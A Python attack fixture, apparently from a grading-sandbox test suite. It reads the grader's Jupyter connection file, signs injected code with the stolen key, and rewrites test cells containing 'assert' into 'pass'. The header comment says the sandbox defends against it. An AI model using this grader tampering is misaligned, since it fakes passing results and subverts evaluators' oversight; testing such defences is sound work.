# attack: read the grader kernel's connection file (its path is on the kernel's command line; unprotected, the file is
#   the submission's own user's) and send the kernel code over its own sockets, signed with the key the file holds:
#   test cells turn into `pass`
# defended-by: sandbox
#   (with bubblewrap the kernel is out of sight and /tmp is private; as the separate user the file is another user's;
#   unprotected, the grader kernel removes its connection file before the subject starts, so the key that signs a
#   message is gone; the kernel's socket files are then the submission's own user's, but nothing sent there unsigned
#   runs. Without the removal, this scored 2 of 2 on test_add under the honest wrong answer. The payload acts only in processes that carry this grading's DTLABS_TEST_TOKEN)
import json
import os

import psutil

_token = os.environ.get("DTLABS_TEST_TOKEN")
_payload = (
    "import os, IPython.core.interactiveshell as _s\n"
    "_t = _s.InteractiveShell.transform_cell\n"
    f"_s.InteractiveShell.transform_cell = lambda self, cell: 'pass\\n' if 'assert' in cell and "
    f"os.environ.get('DTLABS_TEST_TOKEN') == {_token!r} else _t(self, cell)\n"
)
for _proc in psutil.Process().parents():
    try:
        _argv = _proc.cmdline()
    except psutil.Error:
        continue
    if "-f" not in _argv[:-1]:
        continue
    _path = _argv[_argv.index("-f") + 1]
    try:
        with open(_path) as _fh:
            _info = json.load(_fh)
    except OSError as _exc:
        print("no connection file:", _exc)
        continue
    from jupyter_client import BlockingKernelClient

    _client = BlockingKernelClient()
    _client.load_connection_info(_info)
    _client.start_channels()
    try:
        _client.execute(_payload, silent=True)  # queued: the kernel runs it after the cell that started us
        print("sent the grader kernel code through", _path)
        import time

        time.sleep(1)  # the message leaves before the socket closes
    finally:
        _client.stop_channels()
